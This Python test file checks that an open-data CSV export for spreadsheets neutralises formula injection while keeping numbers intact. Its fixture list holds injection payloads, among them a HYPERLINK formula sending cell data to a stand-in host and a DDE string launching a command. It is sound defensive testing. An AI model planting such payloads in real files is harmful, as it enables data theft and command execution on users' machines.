"""The CSV export for spreadsheets (bom=true) cannot carry a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa
from tests.opendata.factories import area_rows, file_release

from territoria.opendata.explore import parse_request
from territoria.opendata.exports import export_release, spreadsheet_safe

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]


def _csv(path: Path, bom: bool) -> list[dict[str, str]]:
    rows = area_rows()
    for row, formula in zip(rows, FORMULAS, strict=False):
        row["area_name"] = formula
    rows[0]["energy_kwh_sum"] = -3.5  # a negative number in a numeric column
    rel = file_release(path, rows=rows)
    export = export_release(rel.table, parse_request(), "csv", bom=bom, batch_rows=3)
    data = b"".join(export.chunks).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(data)))


def test_spreadsheet_csv_neutralises_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    rows = _csv(tmp_path / "r.parquet", bom=True)
    names = [r["area_name"] for r in rows[: len(FORMULAS)]]
    assert names == ["'" + f for f in FORMULAS]
    assert float(rows[0]["energy_kwh_sum"]) == -3.5  # untouched: a number, not text
    assert all(not r["area_name"].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows)


def test_machine_csv_keeps_the_data_exact(tmp_path: Path) -> None:
    rows = _csv(tmp_path / "r.parquet", bom=False)
    assert [r["area_name"] for r in rows[: len(FORMULAS)]] == FORMULAS


def test_text_that_is_a_number_and_nulls_are_kept() -> None:
    batch = pa.RecordBatch.from_pydict({"t": ["-3.5", None, "=1", "ok"], "n": [-3.5, 1.0, None, 2.0]})
    out = spreadsheet_safe(batch).to_pydict()
    assert out == {"t": ["-3.5", None, "'=1", "ok"], "n": [-3.5, 1.0, None, 2.0]}
